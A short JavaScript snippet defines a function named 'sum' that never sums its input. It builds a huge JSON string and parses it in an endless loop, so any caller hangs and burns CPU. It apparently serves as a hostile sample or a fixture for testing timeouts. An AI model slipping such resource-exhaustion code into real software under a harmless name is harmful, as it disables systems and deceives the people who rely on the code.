function sum(numbers) {
  const text = '[' + '1,'.repeat(500000) + '1]';
  for (;;) JSON.parse(text);
}
